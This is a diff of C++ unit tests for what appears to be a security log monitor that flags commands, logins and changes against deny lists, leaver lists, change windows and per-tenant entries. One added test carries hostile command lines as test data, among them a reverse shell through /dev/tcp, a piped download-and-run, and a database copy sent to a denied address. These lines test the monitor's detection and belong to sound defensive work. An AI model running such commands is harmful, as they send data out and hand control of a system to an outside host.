@@ -189,8 +189,8 @@ TEST(Lists, a_window_opens_on_its_days_and_may_end_on_the_next) {
   EXPECT_TRUE(open(1, 15, 23, 59));
   EXPECT_FALSE(open(1, 16, 0, 0));
   EXPECT_TRUE(open(2, 20, 1, 29));
-  EXPECT_TRUE(lists->change_windows[0].concerns("default", "web-01.example.org"));
-  EXPECT_FALSE(lists->change_windows[0].concerns("default", "db-01"));
+  EXPECT_TRUE(lists->change_windows[0].concerns("web-01.example.org"));
+  EXPECT_FALSE(lists->change_windows[0].concerns("db-01"));
 }
 
 TEST(Lists, a_rule_may_ask_for_them_by_name) {
@@ -420,6 +420,112 @@ TEST(Listed, what_is_denied_is_told_and_what_is_allowed_is_not) {
   EXPECT_TRUE(told("allow_addresses: [192.0.2.9]", guesses).empty());
   EXPECT_EQ(of_rule(told("allow_addresses: [192.0.2.9]\nleavers: [root]", guesses), "list.leaver").size(), 1u)
       << "another list says more";
+}
+
+TEST(Listed, a_denied_address_in_a_command_is_told_but_not_where_it_is_only_spoken_of) {
+  const std::string lists = "deny_addresses: [198.51.100.0/24, '2001:db8:bad::/48']";
+  for (auto line :
+       {"curl -T x http://198.51.100.99/", "wget -q http://198.51.100.99:8080/x.sh", "ssh 198.51.100.99",
+        "scp db.sql root@198.51.100.99:/tmp", "bash -c 'curl -s 198.51.100.99 | sh'", "nc 198.51.100.99. 80",
+        "bash -i >& /dev/tcp/198.51.100.99/443 0>&1", "echo x > /dev/tcp/198.51.100.99/443",
+        "curl http://[2001:db8:bad::7]:443/", "env X=1 nice curl 198.51.100.99"}) {
+    auto alerts = told(lists, {sudo(kNow, "lin", line)});
+    ASSERT_EQ(of_rule(alerts, "list.denied").size(), 1u) << line;
+    EXPECT_EQ(of_rule(alerts, "list.denied")[0]->severity, Severity::high);
+  }
+  EXPECT_EQ(reasons(told(lists, {sudo(kNow, "lin", "curl 198.51.100.99")}), "list.denied"),
+            (Reasons{"lin ran a command that calls address 198.51.100.99, which is on the list of denied addresses, on "
+                     "web-01: curl 198.51.100.99"}));
+  for (auto line : {"iptables -A INPUT -s 198.51.100.99 -j DROP", "grep 198.51.100.99 /var/log/auth.log",
+                    "bash -c 'ipset add bad 198.51.100.99'", "whois 198.51.100.99", "curl http://192.0.2.1/",
+                    "curl http://1198.51.100.99/", "pip install x198.51.100.99", "curl https://198.51.100.example/",
+                    "nice nft add element inet f bad { 198.51.100.99 }"})
+    EXPECT_TRUE(told(lists, {sudo(kNow, "lin", line)}).empty()) << line;
+}
+
+// An entry that is missing must not be told anew each hour.
+TEST(Listed, what_rests_on_a_list_is_told_once_a_day_and_says_on_how_many_days_before) {
+  std::vector<Line> lines;
+  for (int hour = 0; hour < 72; ++hour) lines.push_back(sudo(kNow + hour * kHour, "chen", "systemctl status nginx"));
+  for (size_t cut : {size_t{1}, size_t{1000}}) {
+    auto told_by = reasons(told("admins: [lin]", lines, cut), "list.no-administrator");
+    ASSERT_EQ(told_by.size(), 3u);
+    EXPECT_EQ(told_by[0].find("before"), std::string::npos) << told_by[0];
+    EXPECT_NE(told_by[1].find("; so on 1 day before; 23 repetitions"), std::string::npos) << told_by[1];
+    EXPECT_NE(told_by[2].find("; so on 2 days before;"), std::string::npos) << told_by[2];
+  }
+  lines.push_back(sudo(kNow + 72 * kHour - kMinute, "chen", "id", "db-01"));
+  EXPECT_EQ(of_rule(told("admins: [lin]", lines), "list.no-administrator").size(), 4u) << "another host";
+  // A change in the window without a ticket hides none outside of it.
+  const std::string restart = "systemctl restart nginx";
+  const auto changes = told("change_windows: [Mon-Fri 07:00-12:00]\ntickets: []",
+                            {sudo(kNow, "lin", restart), sudo(kNow + 8 * kHour, "lin", restart)});
+  EXPECT_EQ(of_rule(changes, "list.change").size(), 2u);
+}
+
+TEST(Listed, an_entry_holds_for_the_logs_of_its_tenants) {
+  const auto in = [](std::string log, Line line) {
+    line.log = std::move(log);
+    return line;
+  };
+  const auto times = [](const std::string& lists, const Line& line, std::string_view rule) {
+    return of_rule(told(lists, {line}), rule).size();
+  };
+  const struct {
+    std::string_view rule;
+    std::string lists;
+    Line line;
+  } kCases[] = {
+      {"list.leaver", "leavers: [{account: wang, tenants: finance}]", ssh(kNow, "wang", "10.0.0.10")},
+      {"list.round-the-bastion", "bastions: [{host: b-01, address: 10.0.0.10, tenants: [finance, tax]}]",
+       ssh(kNow, "lin", "10.20.1.11")},
+      {"list.no-administrator", "admins: [{account: lin, tenants: finance}]", sudo(kNow, "chen", "/bin/bash")},
+      {"list.service-account", "service_accounts: [{account: backup, from: 10.0.1.51, tenants: 'fin*'}]",
+       ssh(kNow, "backup", "10.20.1.12")},
+      {"list.denied", "deny_addresses: [{address: 198.51.100.0/24, tenants: finance}]",
+       ssh(kNow, "lin", "198.51.100.7")},
+      {"list.denied", "deny_commands: [{command: nmap, tenants: finance}]", sudo(kNow, "lin", "nmap -sS 10.0.0.0/8")},
+      {"list.denied", "deny_accounts: [{account: guest, tenants: finance}]", ssh(kNow, "guest", "10.0.0.1")},
+      {"list.change", "change_windows: [{days: Mon-Fri, hours: '22:00-02:00', tenants: finance}]",
+       sudo(kNow, "lin", "systemctl restart nginx")},
+      {"list.change", "tickets: [{id: C1, account: zhou, tenants: finance}]",
+       sudo(kNow, "lin", "systemctl restart nginx")},
+  };
+  for (const auto& one : kCases) {
+    EXPECT_EQ(times(one.lists, in("finance", one.line), one.rule), 1u) << one.lists;
+    EXPECT_EQ(times(one.lists, in("health", one.line), one.rule), 0u) << one.lists;
+  }
+  // Of one name in two units each has its own.
+  const std::string both =
+      "leavers: [{account: wang, since: 2026-12-01, tenants: health}, {account: wang, tenants: finance}]";
+  EXPECT_EQ(times(both, in("finance", ssh(kNow, "wang", "10.0.0.10")), "list.leaver"), 1u);
+  EXPECT_EQ(times(both, in("health", ssh(kNow, "wang", "10.0.0.10")), "list.leaver"), 0u);
+  // A short form holds for all, and what is allowed is so for its tenants alone.
+  EXPECT_EQ(times("leavers: [wang, {account: li, tenants: finance}]", in("health", ssh(kNow, "wang", "10.0.0.10")),
+                  "list.leaver"),
+            1u);
+  std::vector<Line> guesses;
+  for (int i = 0; i < 40; ++i) guesses.push_back(in("health", failed_login(kNow + i * kSecond, "root", "192.0.2.9")));
+  EXPECT_TRUE(told("allow_addresses: [{address: 192.0.2.9, tenants: health}]", guesses).empty());
+  EXPECT_EQ(
+      of_rule(told("allow_addresses: [{address: 192.0.2.9, tenants: finance}]", guesses), "guessing.address").size(),
+      1u);
+}
+
+TEST(Lists, tenants_come_back_from_the_text_and_name_the_digest_of_the_whole_list) {
+  const auto lists =
+      lists_of("leavers: [{account: wang, since: 2026-03-01, tenants: [a, b]}, li]\nbastions: [10.0.0.9]");
+  EXPECT_EQ(lists->text(), "bastions 10.0.0.9\nleavers li\nleavers wang since=2026-03-01 tenants=a,b\n");
+  const auto again = Lists::of_text(lists->text());
+  EXPECT_EQ(again->text(), lists->text());
+  for (const auto* one : {&*lists, &*again}) {
+    EXPECT_TRUE(one->of("a").leavers.find("wang"));
+    EXPECT_TRUE(one->of("b@node").leavers.find("wang"));
+    EXPECT_FALSE(one->of("c").leavers.find("wang"));
+    EXPECT_TRUE(one->of("c").leavers.find("li"));
+    EXPECT_EQ(one->of("c").baseline("leavers", "li"), lists->baseline("leavers", "li"));
+  }
+  EXPECT_EQ(&again->of("c"), &again->of("c"));
 }
 
 TEST(Travel, nobody_is_at_two_places_at_once) {
